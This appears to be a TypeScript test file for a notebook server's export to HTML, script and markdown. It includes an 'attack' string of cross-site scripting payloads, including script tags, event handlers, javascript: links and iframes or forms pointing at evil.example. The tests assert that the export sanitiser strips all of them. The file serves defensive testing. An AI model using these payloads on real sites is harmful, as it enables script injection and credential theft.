import assert from "node:assert/strict";
import { chmod, mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { delimiter, join } from "node:path";
import { describe, it } from "node:test";
import { startServer, type TestServer } from "./server.ts";

const pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
const text = (source: string, more: object = {}): object => ({
  ...{ cell_type: "markdown", id: "m", metadata: {}, source, ...more },
});
const code = (source: string, outputs: object[], metadata: object = {}): object => ({
  ...{ cell_type: "code", id: "c", metadata, execution_count: 3, source, outputs },
});
const data = (bundle: object): object => ({ output_type: "display_data", metadata: {}, data: bundle });
const notebook = (...cells: object[]): object => ({
  ...{ cells, nbformat: 4, nbformat_minor: 5 },
  metadata: { kernelspec: { name: "cirlab", language: "typescript", display_name: "TypeScript" } },
});

const sample = notebook(
  text(
    "# A *title* $x^2$\n\nInline $a<b$ and `$code$`.\n\n$$\\sum_i x_i$$\n\n![near](pictures/dot.png)\n\n![own](attachment:a.png)",
    {
      attachments: { "a.png": { "image/png": pixel } },
    },
  ),
  code("const a: number = 1 < 2 ? 3 : 4;", [
    { output_type: "stream", name: "stdout", text: "10%\r\u001b[32m100%\u001b[0m\nback\b\b& <tag>\n" },
    data({ "text/html": "<table><tr><td style='color: red'>cell</td></tr></table>", "text/plain": "plain" }),
    data({ "image/png": pixel, "text/plain": "picture" }),
    { output_type: "error", ename: "TypeError", evalue: "no", traceback: ["\u001b[31mTypeError\u001b[0m: no"] },
  ]),
  code("%check strict\nlet b = 2;", []),
  code("%%python\nprint(1)", []),
);

/** What must not come into a page, in every place where a notebook has text. */
const attack = `<script>steal()</script><img src=x onerror="steal()"><a href="javascript:steal()">x</a>
<iframe src="https://evil.example"></iframe><svg onload="steal()"><script>steal()</script></svg><style>@import "https://evil.example"</style>
<form action="https://evil.example"><input type="password"></form><p style="position:fixed;background:url(https://evil.example)">y</p><object data="x"></object>`;
const hostile = notebook(
  text(`${attack}\n\n[x](javascript:steal()) $\\href{javascript:steal()}{x}$ ![x](javascript:steal())`),
  code(`"</code></pre>${attack}"`, [
    { output_type: "stream", name: "stdout", text: attack },
    data({ "text/html": attack }),
    data({
      "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"><script>steal()</script></svg>`,
    }),
    data({ "image/png": `"><script>steal()</script>` }),
    data({ "text/markdown": attack }),
    data({ "text/latex": "$\\href{javascript:steal()}{x}$" }),
    data({ "text/plain": attack }),
    data({ "application/json": { x: attack } }),
    data({ "application/javascript": "steal()" }),
    { output_type: "error", ename: "E", evalue: "e", traceback: [attack] },
  ]),
  { cell_type: "raw", id: "r", metadata: { raw_mimetype: "text/html" }, source: attack },
);

async function put(server: TestServer, name: string, content: object): Promise<void> {
  await writeFile(join(server.root, name), JSON.stringify(content));
}

/** Tags and attributes of a page that could run something. */
const running =
  /<(?:script|iframe|object|embed|form|link|base)\b|<[^>]*\son\w+\s*=|(?:href|src)\s*=\s*["']?\s*javascript:/i;

describe("export of notebooks", () => {
  it("makes an HTML page that stands alone", async (t) => {
    const server = await startServer(t);
    await mkdir(join(server.root, "pictures"));
    await writeFile(join(server.root, "pictures/dot.png"), Buffer.from(pixel, "base64"));
    await put(server, "a b.ipynb", sample);
    const answer = await server.api("GET", "/nbconvert/html/a%20b.ipynb?download=true");
    assert.equal(answer.status, 200);
    assert.match(answer.headers.get("content-type")!, /^text\/html/);
    assert.match(answer.headers.get("content-disposition")!, /attachment; filename="a b\.html"/);
    assert.match(answer.headers.get("content-security-policy")!, /sandbox/);
    assert.ok(answer.headers.get("last-modified"));
    const html = await answer.text();
    assert.match(html, /<h1 id="A-title-\$x\^2\$">A <em>title<\/em> <span class="katex">/);
    assert.equal(html.match(/<math/g)?.length, 3);
    assert.match(html, /<code>\$code\$<\/code>/);
    assert.match(html, /<span class="hljs-keyword">const<\/span>/);
    assert.equal(html.match(/src="data:image\/png;base64,/g)?.length, 3, "beside it, attached, and an output");
    assert.match(html, /<td style="color:red">cell<\/td>/);
    assert.match(html, /<span class="ansi-green-fg">100%<\/span>\nba&amp; &lt;tag&gt;/, "as a terminal shows it");
    assert.match(html, /<span class="ansi-red-fg">TypeError<\/span>/);
    assert.doesNotMatch(html, /plain|10%\r/);
    assert.doesNotMatch(html, /<(?:link|script)|src="(?!data:)/, "nothing comes from elsewhere");
  });

  it("lets nothing of a hostile notebook run, trusted or not", async (t) => {
    const server = await startServer(t);
    await put(server, "x.ipynb", hostile);
    await put(server, "t.ipynb", hostile);
    assert.equal((await server.api("POST", "/api/contents/t.ipynb/trust")).status, 201);
    const posted = await server.api("POST", "/nbconvert/html", { name: "x.ipynb", content: hostile });
    for (const answer of [
      await server.api("GET", "/nbconvert/html/x.ipynb"),
      await server.api("GET", "/nbconvert/html/t.ipynb"),
      await server.api("GET", "/nbconvert/html/t.ipynb?sanitize_html=true"),
      posted,
    ]) {
      assert.equal(answer.status, 200);
      const html = await answer.text();
      assert.match(html, /Content-Security-Policy" content="default-src 'none'/);
      assert.doesNotMatch(html.replace(/data:image\/svg\+xml;base64,[^"]*/g, ""), running);
      assert.doesNotMatch(html, /<p style|type="password"/);
    }
  });

  it("makes a script in percent format, in the notebook's language", async (t) => {
    const server = await startServer(t);
    await put(server, "a.ipynb", sample);
    const answer = await server.api("GET", "/nbconvert/script/a.ipynb?download=true");
    assert.match(answer.headers.get("content-disposition")!, /a\.ts/);
    const script = await answer.text();
    assert.match(script, /^\/\/ %% \[markdown\]\n\/\/ # A \*title\* \$x\^2\$\n/);
    assert.match(script, /\n\/\/ %%\nconst a: number = 1 < 2 \? 3 : 4;\n\n\/\/ %%\n\/\/ %check strict\nlet b = 2;\n/);
    assert.match(script, /\/\/ %%\n\/\/ %%python\n\/\/ print\(1\)\n$/);
    const python = { ...sample, metadata: { language_info: { name: "python", file_extension: ".py" } } };
    const posted = await server.api("POST", "/nbconvert/script", { name: "p.ipynb", content: python });
    assert.match(posted.headers.get("content-type")!, /x-python/);
    assert.match(await posted.text(), /\n# %%\n# %check strict\nlet b = 2;/);
  });

  it("makes markdown with its pictures inside, and the notebook itself", async (t) => {
    const server = await startServer(t);
    await put(server, "a.ipynb", sample);
    const markdown = await (await server.api("GET", "/nbconvert/markdown/a.ipynb")).text();
    assert.match(markdown, /```typescript\nconst a: number = 1 < 2 \? 3 : 4;\n```\n\n {4}100%\n {4}ba& <tag>\n/);
    assert.match(markdown, /!\[own\]\(data:image\/png;base64,iVBOR/);
    assert.match(markdown, /!\[output\]\(data:image\/png;base64,iVBOR/);
    const copy = (await (await server.api("GET", "/nbconvert/notebook/a.ipynb")).json()) as { cells: unknown[] };
    assert.equal(copy.cells.length, 4);
  });

  it("hands other formats to an installed nbconvert, and says how to get one", async (t) => {
    const server = await startServer(t);
    await put(server, "a.ipynb", sample);
    const path = process.env.PATH;
    t.after(() => {
      process.env.PATH = path;
    });
    process.env.PATH = "";
    const formats = (await (await server.api("GET", "/api/nbconvert")).json()) as Record<string, unknown>;
    assert.deepEqual(Object.keys(formats), ["html", "markdown", "script", "notebook"]);
    const refused = await server.api("GET", "/nbconvert/rst/a.ipynb");
    assert.equal(refused.status, 400);
    assert.match(((await refused.json()) as { message: string }).message, /pip install nbconvert/);

    // A program that does what nbconvert does with these options: one file, two files, or none and a message.
    const bin = await mkdtemp(join(tmpdir(), "cirlab-bin-"));
    t.after(() => rm(bin, { recursive: true }));
    const program = `#!/bin/sh
case "$2" in
  rst) mkdir -p "$4" && echo "from $2 $(grep -c execution_count "$7")" > "$4/$6.rst" ;;
  latex) mkdir -p "$4/$6_files" && echo tex > "$4/$6.tex" && echo png > "$4/$6_files/a.png" ;;
  *) echo "pandoc is missing" >&2; exit 1 ;;
esac
`;
    await writeFile(join(bin, "jupyter-nbconvert"), program);
    await chmod(join(bin, "jupyter-nbconvert"), 0o755);
    process.env.PATH = [bin, path].join(delimiter);
    assert.ok("pdf" in ((await (await server.api("GET", "/api/nbconvert")).json()) as object));
    const rst = await server.api("GET", "/nbconvert/rst/a.ipynb?download=true");
    assert.equal(await rst.text(), "from rst 3\n");
    assert.match(rst.headers.get("content-disposition")!, /a\.rst/);
    const zip = await server.api("GET", "/nbconvert/latex/a.ipynb?download=true");
    assert.match(zip.headers.get("content-disposition")!, /a\.zip/);
    assert.equal(
      Buffer.from(await zip.arrayBuffer())
        .subarray(0, 2)
        .toString(),
      "PK",
    );
    const failed = await server.api("GET", "/nbconvert/pdf/a.ipynb");
    assert.equal(failed.status, 500);
    assert.match(((await failed.json()) as { message: string }).message, /pandoc is missing/);
  });

  it("refuses what is no notebook and no format", async (t) => {
    const server = await startServer(t);
    await writeFile(join(server.root, "a.txt"), "text");
    const status = async (path: string): Promise<number> => (await server.api("GET", path)).status;
    assert.equal(await status("/nbconvert/html/a.txt"), 400);
    assert.equal(await status("/nbconvert/html/none.ipynb"), 404);
    assert.equal(await status("/nbconvert/none/a.txt"), 404);
    assert.equal((await server.api("POST", "/nbconvert/html", { content: { cells: 1 } })).status, 400);
    assert.equal((await server.raw("/nbconvert/html/a.ipynb")).status, 302);
  });
});
